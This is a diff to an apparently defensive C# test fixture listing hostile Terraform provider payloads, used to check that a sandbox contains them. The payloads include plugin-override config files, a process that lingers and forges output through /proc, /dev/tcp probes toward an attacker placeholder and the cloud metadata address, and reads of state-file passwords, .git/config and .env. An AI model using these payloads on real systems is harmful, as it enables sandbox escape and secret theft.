@@ -17,6 +17,8 @@ internal static class HostileProviders
 
         """;
 
+    private const string Overrides = "provider_installation {\n  dev_overrides {\n    \"acme/evil\" = \"./plugins\"\n  }\n  direct {}\n}\n";
+
     public static IEnumerable<Hostile> All => [.. Cages, .. Proxies, .. Metadata, .. Pipes];
 
     private static IEnumerable<Hostile> Cages =>
@@ -39,6 +41,8 @@ internal static class HostileProviders
         Provider("a provider that leaves a process behind", Layer.Cage, "left", "(trap '' HUP TERM INT; exec -a marigold-left-behind $BASH -c 'while :; do read -t 1 < <(:); done' ) </dev/null >/dev/null 2>&1 & disown; echo left"),
         Provider("a provider that reaches the attacker itself", Layer.Cage, "reached: nothing", "for a in 127.0.0.1/@ATTACKER@ awsmoto/@ATTACKER@ 169.254.169.254/80 10.0.0.1/80 8.8.8.8/53; do (exec 3<>/dev/tcp/$a) 2>/dev/null && r=\"$r $a\"; (echo x > /dev/udp/$a) 2>/dev/null; done; echo \"reached: ${r:-nothing}\""),
         Provider("a provider that runs a program of the tree", Layer.Cage, "ran: nothing", "for f in ./tool.sh ./tool; do ($f) >/dev/null 2>&1 && r=\"$r $f\"; done; echo \"ran: ${r:-nothing}\"", ("tool.sh", "#!/bin/sh\ntouch @OWNED@/tool\n")),
+        Provider("plugins of the home folder and of the tree in place of the mirror's", Layer.Cage, "the one of the mirror", "echo the one of the mirror", (".terraformrc", Overrides), ("terraform.rc", Overrides), ("cli.tfrc", Overrides), ("plugins/terraform-evil", "#!/bin/sh\ntouch @OWNED@/plugin-of-the-tree\n")),
+        Provider("a provider that waits until the host reads its output", Layer.Cage, "waits", "exec 7>/proc/$PPID/fd/1 8>/proc/$PPID/fd/2; (trap '' HUP TERM INT; while [ -d /proc/$PPID ] && read -r l < /proc/$PPID/stat && [[ $l != *' Z '* ]]; do :; done; printf 'R\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00forged' >&7; exec -a marigold-waits $BASH -c 'while :; do printf forged >&8; done') </dev/null >/dev/null 2>&1 & disown; echo waits"),
         Provider("a provider that reads the state beside it", Layer.State, "state: [secret:", "s=$(<../state/terraform.tfstate); s=${s#*password\\\":\\\"}; echo \"state: ${s%%\\\"*}\""),
         Provider("a provider that reads the code of others", Layer.Cage, "code: nothing", "for f in ../../*/main.tf ../.git/config ./.git/config ./.env; do [ -r $f ] && r=\"$r $f\"; done; echo \"code: ${r:-nothing}\"", (".env", Canary.Of("tracked"))),
     ];
